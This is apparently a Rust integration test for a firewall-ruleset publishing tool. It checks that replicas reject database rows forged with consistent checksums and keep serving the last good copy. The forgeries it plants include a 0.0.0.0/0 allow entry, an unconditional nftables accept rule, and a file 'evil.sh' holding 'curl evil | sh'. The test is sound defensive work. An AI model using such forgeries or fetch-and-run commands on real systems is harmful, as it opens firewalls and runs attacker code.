//! What replicas serve is checked like what is published, against the release binary: with
//! `[serve] source = "store"`, a publish row that no publish could have produced — made by
//! whoever can write the shared database, each with its manifest's checksums made consistent —
//! is not served, reported in the log and `/metrics`, and the last good copy stays; a replica
//! that starts while the newest stored publish fails serves the newest good one kept. Real
//! publishes in every format pass the same checks.

use crate::common;

use std::process::Stdio;
use std::time::{Duration, Instant};

use common::job::Job;
use common::serve::{curl_get, start_logging, Server};
use common::shared_data;
use sqlx::Connection;
use tagwall::core::digest::sha256_hex;

const TOKEN: &str = "0123456789abcdef-firewall-token";

/// Every format, split lists included, so that each passes the replica's checks on real data.
const RULESETS: &str = r#"
[output]
validate = "never"

[[ruleset]]
name = "entra"
tags = ["AzureCloud", "AzureActiveDirectory"]
protocol = "tcp"
ports = [443, 80]
formats = ["txt", "nft", "ipset", "iptables", "csv", "json", "squid", "junos", "routeros", "cisco-asa", "fortios", "checkpoint", "powershell", "terraform-azure", "terraform-aws"]
split_entries = 5000
"#;

fn replica(db: &str) -> (Job, Server) {
    let job = Job::new(
        Some(db),
        &format!("[serve]\nsource = \"store\"\n{RULESETS}"),
    );
    let server = start_logging(&job, Some(TOKEN), &[], Stdio::null());
    (job, server)
}

/// curl with the token: (status, body).
fn get(port: u16, path: &str) -> (u16, Vec<u8>) {
    curl_get(port, path, TOKEN)
}

/// A new publish row: the real publish's files (the first row), `edit`ed, with the manifest's file list and
/// checksums made to match (as an attacker with write access to the database would).
async fn forge(db: &str, edit: impl Fn(&mut Vec<(String, Vec<u8>)>)) {
    let mut c = sqlx::SqliteConnection::connect(db).await.unwrap();
    let (real,): (i64,) = sqlx::query_as("SELECT MIN(id) FROM publishes WHERE ruleset = 'entra'")
        .fetch_one(&mut c)
        .await
        .unwrap();
    let mut files: Vec<(String, Vec<u8>)> = sqlx::query_as(
        "SELECT name, body FROM publish_files WHERE publish_id = $1 ORDER BY position",
    )
    .bind(real)
    .fetch_all(&mut c)
    .await
    .unwrap();
    let (_, manifest) = files.pop().unwrap();
    let mut manifest: serde_json::Value = serde_json::from_slice(&manifest).unwrap();
    edit(&mut files);
    manifest["files"] = files
        .iter()
        .map(|(name, body)| {
            serde_json::json!({"name": name, "bytes": body.len(), "sha256": sha256_hex(body)})
        })
        .collect();
    let manifest = serde_json::to_vec_pretty(&manifest).unwrap();
    files.push(("manifest.json".into(), manifest.clone()));
    let (id,): (i64,) = sqlx::query_as(
        "INSERT INTO publishes (ruleset, manifest_sha256, published_at) \
         VALUES ('entra', $1, $2) RETURNING id",
    )
    .bind(sha256_hex(&manifest))
    .bind(chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Secs, true))
    .fetch_one(&mut c)
    .await
    .unwrap();
    for (position, (name, body)) in files.iter().enumerate() {
        sqlx::query(
            "INSERT INTO publish_files (publish_id, position, name, body) VALUES ($1, $2, $3, $4)",
        )
        .bind(id)
        .bind(position as i32)
        .bind(name)
        .bind(body)
        .execute(&mut c)
        .await
        .unwrap();
    }
}

fn edit_file(files: &mut [(String, Vec<u8>)], name: &str, f: impl Fn(&str) -> String) {
    let (_, body) = files.iter_mut().find(|(n, _)| n == name).unwrap();
    *body = f(&String::from_utf8_lossy(body)).into_bytes();
}

/// The three forgeries: an address at the head of a list, an accept rule in the `.nft`, a
/// file no format names.
type Forgery = (&'static str, fn(&mut Vec<(String, Vec<u8>)>), &'static str);

const FORGERIES: [Forgery; 3] = [
    (
        "0.0.0.0/0 at the head of the IPv4 list",
        |files| edit_file(files, "entra.ipv4.txt", |t| format!("0.0.0.0/0\n{t}")),
        "entra.ipv4.txt holds other entries than the manifest's digest records",
    ),
    (
        "an accept rule at the end of the .nft",
        |files| {
            edit_file(files, "entra.nft", |t| {
                format!("{t}add rule inet tagwall tw-entra accept\n")
            })
        },
        "is not what tagwall writes for this ruleset",
    ),
    (
        "an extra evil.sh",
        |files| files.push(("evil.sh".into(), b"curl evil | sh\n".to_vec())),
        "it holds \"evil.sh\", which the ruleset's formats do not name",
    ),
];

/// Polls `/healthz` until its problem for entra names `problem` (at most 5 s): that problem.
fn reported(server: &Server, problem: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let (_, body) = get(server.port, "/healthz");
        let health: serde_json::Value = serde_json::from_slice(&body).unwrap();
        let text = health["problems"]["entra"]
            .as_str()
            .unwrap_or_default()
            .to_string();
        if text.contains(problem) || Instant::now() > deadline {
            return text;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn forged_publishes_in_the_store_are_not_served() {
    let Some(shared) = shared_data() else { return };
    let publisher = Job::new(None, RULESETS);
    publisher.add_week(&shared, "20250728");
    let (code, text) = publisher.sync(&[]);
    assert_eq!(code, 0, "{text}");
    let db = format!("sqlite://{}", publisher.path().join("t.db").display());
    let (_job, server) = replica(&db);
    // Every file of a real publish in every format passes the checks and is served as written.
    for entry in std::fs::read_dir(publisher.out().join("entra")).unwrap() {
        let entry = entry.unwrap();
        let name = entry.file_name().into_string().unwrap();
        let (code, body) = get(server.port, &format!("/rulesets/entra/{name}"));
        assert_eq!(code, 200, "{name}");
        assert_eq!(body, std::fs::read(entry.path()).unwrap(), "{name}");
    }
    let good = std::fs::read(publisher.out().join("entra/entra.ipv4.txt")).unwrap();
    let rt = tokio::runtime::Runtime::new().unwrap();
    for (what, edit, problem) in FORGERIES {
        rt.block_on(forge(&db, edit));
        let health = reported(&server, problem);
        assert!(health.contains(problem), "{what}: {health}");
        let (code, body) = get(server.port, "/rulesets/entra/entra.ipv4.txt");
        assert_eq!(
            (code, &body),
            (200, &good),
            "{what}: the last good copy stays"
        );
        let (_, metrics) = get(server.port, "/metrics");
        let metrics = String::from_utf8_lossy(&metrics);
        assert!(
            metrics.contains("tagwall_serve_ruleset_problem{ruleset=\"entra\"} 1"),
            "{what}: {metrics}"
        );
        // A replica that starts now serves the newest good publish kept, not nothing.
        let (_late_job, late) = replica(&db);
        let (code, body) = get(late.port, "/rulesets/entra/entra.ipv4.txt");
        assert_eq!((code, &body), (200, &good), "{what}: a replica started now");
        assert!(reported(&late, problem).contains("serving the older publish"));
    }
}
